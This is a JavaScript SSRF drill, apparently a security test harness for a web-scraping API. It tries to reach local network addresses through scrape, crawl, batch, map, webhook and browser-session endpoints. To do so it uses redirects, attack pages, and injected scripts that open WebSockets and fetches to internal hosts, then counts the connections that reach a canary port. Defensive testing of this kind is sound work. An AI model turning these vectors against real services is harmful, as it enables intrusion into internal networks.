/**
 * Drill, part 1: try to reach the local network from the server, over every entry point (scrape on both engines,
 * crawl, batch, map, v1, webhooks, actions) and every vector (each spelling of this machine, redirects, a rendered
 * page's sub-resources and WebSockets, a browser session's pages and scripts, crawl links, sitemaps and robots.txt,
 * names resolving to loopback). All attacks aim at the canary port; what counts is how many connections reached it.
 */

/**
 * @typedef {{ api: (method: string, path: string, body?: unknown) => Promise<{ status: number, body: any }>, attacker:
 * string, targets: string[], canary: { hits: () => unknown[] } }} SsrfContext
 */

const statusOf = async (promise) => (await promise).status;

/** Runs `requests` (thunks) a few at a time; returns their statuses. */
async function pooled(requests, width = 6) {
  const statuses = [];
  let next = 0;
  await Promise.all(
    Array.from({ length: width }, async () => {
      while (next < requests.length) statuses.push(await requests[next++]().catch(() => "ERR"));
    }),
  );
  return statuses;
}

/** Polls a crawl/batch status URL until the job is no longer running (or `ms` passed). */
async function settleJob(api, kind, id, ms = 60_000) {
  const until = Date.now() + ms;
  while (Date.now() < until) {
    const { body } = await api("GET", `/v2/${kind}/${id}`);
    if (body?.status && body.status !== "scraping") return body.status;
    await new Promise((r) => setTimeout(r, 500));
  }
  return "timeout";
}

/** @param {SsrfContext} ctx */
export function vectors(ctx) {
  const { api, attacker, targets } = ctx;
  const at = (path) => `${attacker}${path}${path.includes("?") ? "&" : "?"}d=${Math.random().toString(36).slice(2)}`;
  const script =
    `for (const t of ${JSON.stringify(targets)}) { try { new WebSocket("ws://" + t + "/a"); } catch ` +
    `(e) {} fetch("http://" + t + "/f", { mode: "no-cors" }).catch(() => {}); } return 1;`;
  const jobs = [];
  const startJob = async (path, body, kind) => {
    const answer = await api("POST", path, body);
    if (answer.status === 200 && answer.body?.id) jobs.push([kind, answer.body.id]);
    return answer;
  };
  return [
    [
      "scrape, fetch engine: each local spelling",
      () => pooled(targets.map((t) => () => statusOf(api("POST", "/v2/scrape", { url: `http://${t}/` })))),
    ],
    [
      "scrape, browser engine: each local spelling",
      () =>
        pooled(
          targets.map((t) => () => statusOf(api("POST", "/v2/scrape", { url: `http://${t}/`, waitFor: 50 }))),
          3,
        ),
    ],
    [
      "scrape, fetch engine: redirect to each",
      () =>
        pooled(
          targets.map((_, i) => () => statusOf(api("POST", "/v2/scrape", { url: at(`/attack/redirect?i=${i}`) }))),
        ),
    ],
    [
      "scrape, browser engine: redirect to each",
      () =>
        pooled(
          targets.map(
            (_, i) => () => statusOf(api("POST", "/v2/scrape", { url: at(`/attack/redirect?i=${i}`), waitFor: 50 })),
          ),
          3,
        ),
    ],
    [
      "rendered page: sub-resources, fetch, XHR, iframes, WebSockets",
      () => pooled([() => statusOf(api("POST", "/v2/scrape", { url: at("/attack/page"), waitFor: 2000 }))]),
    ],
    [
      "screenshot of the attack page",
      () =>
        pooled([
          () =>
            statusOf(api("POST", "/v2/scrape", { url: at("/attack/page"), formats: ["screenshot"], waitFor: 1000 })),
        ]),
    ],
    [
      "executeJavascript action: WebSockets and fetch",
      () =>
        pooled([
          () =>
            statusOf(
              api("POST", "/v2/scrape", {
                url: at("/article.html"),
                actions: [
                  { type: "executeJavascript", script },
                  { type: "wait", milliseconds: 1500 },
                ],
              }),
            ),
        ]),
    ],
    [
      "crawl: start URL each local spelling",
      () =>
        pooled(targets.map((t) => () => statusOf(startJob("/v2/crawl", { url: `http://${t}/`, limit: 2 }, "crawl")))),
    ],
    [
      "crawl: links, robots.txt and sitemap pointing local",
      () =>
        pooled([
          () =>
            statusOf(
              startJob(
                "/v2/crawl",
                {
                  url: at("/attack/links"),
                  allowExternalLinks: true,
                  crawlEntireDomain: true,
                  limit: 200,
                  maxDiscoveryDepth: 2,
                },
                "crawl",
              ),
            ),
        ]),
    ],
    [
      "crawl: webhook to each local spelling",
      () =>
        pooled(
          targets.map(
            (t) => () =>
              statusOf(
                startJob("/v2/crawl", { url: at("/article.html"), limit: 1, webhook: `http://${t}/hook` }, "crawl"),
              ),
          ),
        ),
    ],
    [
      "batch: each local spelling, and webhooks",
      async () => [
        ...(await pooled([
          () => statusOf(startJob("/v2/batch/scrape", { urls: targets.map((t) => `http://${t}/`) }, "batch/scrape")),
        ])),
        ...(await pooled(
          targets.map(
            (t) => () =>
              statusOf(
                startJob(
                  "/v2/batch/scrape",
                  { urls: [at("/article.html")], webhook: { url: `http://${t}/hook` } },
                  "batch/scrape",
                ),
              ),
          ),
        )),
      ],
    ],
    [
      "map: each local spelling, and a site linking local",
      async () => [
        ...(await pooled(targets.map((t) => () => statusOf(api("POST", "/v2/map", { url: `http://${t}/` }))))),
        ...(await pooled([
          () => statusOf(api("POST", "/v2/map", { url: at("/attack/links"), includeSubdomains: true })),
        ])),
      ],
    ],
    [
      "v1 crawl and batch: start URLs and webhooks",
      async () => [
        ...(await pooled(
          targets.map((t) => () => statusOf(startJob("/v1/crawl", { url: `http://${t}/`, limit: 1 }, "crawl"))),
        )),
        ...(await pooled(
          targets.map(
            (t) => () =>
              statusOf(
                startJob("/v1/crawl", { url: at("/article.html"), limit: 1, webhook: `http://${t}/hook` }, "crawl"),
              ),
          ),
        )),
        ...(await pooled(
          targets.map(
            (t) => () =>
              statusOf(
                startJob(
                  "/v1/batch/scrape",
                  { urls: [at("/article.html")], webhook: { url: `http://${t}/hook` } },
                  "batch/scrape",
                ),
              ),
          ),
        )),
      ],
    ],
    [
      "browser session: navigation, attack page, fetch and WebSockets from execute",
      async () => {
        const session = await api("POST", "/v2/browser", {});
        if (session.status !== 200 || !session.body?.id) return [session.status];
        const code = [
          `await page.goto(${JSON.stringify(at("/attack/page"))});`,
          `await page.evaluate((targets) => { for (const t of targets) { try { new ` +
            `WebSocket("ws://" + t + "/s"); } catch (e) {} fetch("http://" + t + "/s", { ` +
            `mode: "no-cors" }).catch(() => {}); } }, ${JSON.stringify(targets)});`,
          `await page.evaluate(() => new Promise((r) => setTimeout(r, 1500)));`,
          `for (const t of ${JSON.stringify(targets)}) { try { await page.goto("http://" + t + "/n"); } catch (e) {} }`,
        ].join("\n");
        const run = await api("POST", `/v2/browser/${session.body.id}/execute`, {
          code,
          language: "node",
          timeout: 60,
        });
        const stop = await api("DELETE", `/v2/browser/${session.body.id}`);
        // An execute answer is 200 even when the script failed: its exit code tells whether the attack ran.
        return [session.status, run.status === 200 ? `exit ${run.body?.exitCode}` : run.status, stop.status];
      },
    ],
    [
      "jobs above, until they finish (late connections)",
      async () =>
        pooled(
          jobs.splice(0).map(
            ([kind, id]) =>
              () =>
                settleJob(api, kind, id),
          ),
          10,
        ),
    ],
  ];
}

/** Runs every vector; returns rows of { vector, requests, statuses, hits } and the canary's hits. */
export async function runSsrf(ctx, log = console.log) {
  const rows = [];
  for (const [name, run] of vectors(ctx)) {
    const before = ctx.canary.hits().length;
    const statuses = await run();
    // Webhook deliveries and sub-resources may land a moment later.
    await new Promise((r) => setTimeout(r, 1000));
    const hits = ctx.canary.hits().length - before;
    const counts = {};
    for (const s of statuses) counts[s] = (counts[s] ?? 0) + 1;
    rows.push({ vector: name, requests: statuses.length, statuses: counts, hits });
    log(
      `  ${name.padEnd(62)} ${String(statuses.length).padStart(4)} req ` +
        ` ${JSON.stringify(counts).padEnd(34)} canary +${hits}`,
    );
  }
  // A last look for webhook retries and queued pages.
  await new Promise((r) => setTimeout(r, 15_000));
  return { rows, hits: ctx.canary.hits() };
}
